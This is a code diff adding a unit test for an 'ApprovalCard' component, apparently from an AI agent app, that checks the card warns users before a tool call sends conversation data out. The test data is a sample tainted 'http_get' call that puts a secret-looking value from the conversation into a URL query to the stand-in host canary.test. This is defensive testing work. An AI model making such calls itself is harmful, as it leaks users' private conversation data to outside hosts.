@@ -60,4 +60,33 @@ describe("ApprovalCard", () => {
     render(<ApprovalCard approval={approval} />);
     expect(screen.getByRole("button", { name: "Approve" })).toBeDisabled();
   });
+
+  it("shows the data a tainted run would send out, flagging conversation data", () => {
+    render(
+      <ApprovalCard
+        approval={{
+          ...approval,
+          tool: "http_get",
+          args: { url: "http://canary.test/c?d=4111-secret&lang=en" },
+          dataFlow: {
+            url: "http://canary.test/c?d=4111-secret&lang=en",
+            host: "canary.test",
+            carries_conversation_data: true,
+            items: [
+              { location: "query", name: "d", value: "4111-secret", from_conversation: true },
+              { location: "query", name: "lang", value: "en", from_conversation: false },
+            ],
+          },
+        }}
+        onDecide={vi.fn()}
+      />,
+    );
+    const flow = screen.getByTestId("approval-data-flow");
+    expect(flow).toHaveTextContent("Data leaving the app to canary.test");
+    expect(flow).toHaveTextContent("http://canary.test/c?d=4111-secret&lang=en");
+    expect(flow).toHaveTextContent("carries data from your conversation");
+    const flagged = flow.querySelectorAll("[data-from-conversation=true]");
+    expect(flagged).toHaveLength(1);
+    expect(flagged[0]).toHaveTextContent("query d4111-secretfrom this conversation");
+  });
 });
